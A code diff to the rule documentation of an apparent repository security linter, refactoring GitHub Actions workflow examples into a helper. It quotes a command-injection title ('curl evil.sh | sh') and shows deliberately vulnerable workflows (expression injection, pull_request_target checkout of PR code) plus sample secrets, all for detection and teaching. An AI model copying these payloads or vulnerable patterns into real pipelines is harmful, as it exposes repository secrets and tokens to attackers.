@@ -26,6 +26,21 @@ export interface RuleDocData {
 const SAMPLE_GITHUB_TOKEN = ['ghp', 'aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4'].join('_');
 const SAMPLE_KEY_LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7';
 
+/** A GitHub Actions workflow run `on` one trigger, with one job of the given steps. */
+const workflow = (on: string, steps: readonly string[]) => [
+  `on: ${on}`,
+  'jobs:',
+  '  check:',
+  '    runs-on: ubuntu-latest',
+  '    steps:',
+  ...steps,
+];
+const CHECKOUT_HEAD = [
+  '      - uses: actions/checkout@v4',
+  '        with:',
+  '          ref: ${{ github.event.pull_request.head.sha }}',
+];
+
 export const RULE_DOCS: Readonly<Record<string, RuleDocData>> = {
   secret: {
     why: 'A credential in a repository is readable by everyone who can read the repository, its forks and its history, for ever: removing it in a later commit does not take it back. Attackers scan public and leaked repositories for them within minutes.',
@@ -152,57 +167,21 @@ export const RULE_DOCS: Readonly<Record<string, RuleDocData>> = {
     why: 'GitHub pastes ${{ }} expressions into the script before the shell runs it: a pull request titled `"; curl evil.sh | sh; "` runs with the workflow\'s token and secrets.',
     fires: {
       path: '.github/workflows/triage.yml',
-      lines: [
-        'on: issues',
-        'jobs:',
-        '  triage:',
-        '    runs-on: ubuntu-latest',
-        '    steps:',
-        '      - run: echo "${{ github.event.issue.title }}"',
-      ],
+      lines: workflow('issues', ['      - run: echo "${{ github.event.issue.title }}"']),
     },
     passes: {
       path: '.github/workflows/triage.yml',
-      lines: [
-        'on: issues',
-        'jobs:',
-        '  triage:',
-        '    runs-on: ubuntu-latest',
-        '    steps:',
+      lines: workflow('issues', [
         '      - run: echo "$TITLE"',
         '        env:',
         '          TITLE: ${{ github.event.issue.title }}',
-      ],
+      ]),
     },
   },
   'no-pull-request-target-checkout': {
     why: "pull_request_target runs with the base repository's secrets and a write token; checking out and building the pull request's code hands both to its author.",
-    fires: {
-      path: '.github/workflows/pr.yml',
-      lines: [
-        'on: pull_request_target',
-        'jobs:',
-        '  test:',
-        '    runs-on: ubuntu-latest',
-        '    steps:',
-        '      - uses: actions/checkout@v4',
-        '        with:',
-        '          ref: ${{ github.event.pull_request.head.sha }}',
-      ],
-    },
-    passes: {
-      path: '.github/workflows/pr.yml',
-      lines: [
-        'on: pull_request',
-        'jobs:',
-        '  test:',
-        '    runs-on: ubuntu-latest',
-        '    steps:',
-        '      - uses: actions/checkout@v4',
-        '        with:',
-        '          ref: ${{ github.event.pull_request.head.sha }}',
-      ],
-    },
+    fires: { path: '.github/workflows/pr.yml', lines: workflow('pull_request_target', CHECKOUT_HEAD) },
+    passes: { path: '.github/workflows/pr.yml', lines: workflow('pull_request', CHECKOUT_HEAD) },
   },
   'no-privileged-container': {
     why: "A privileged container (or one sharing the host's network or processes) can take over the host: a bug in the container becomes a compromise of the node.",
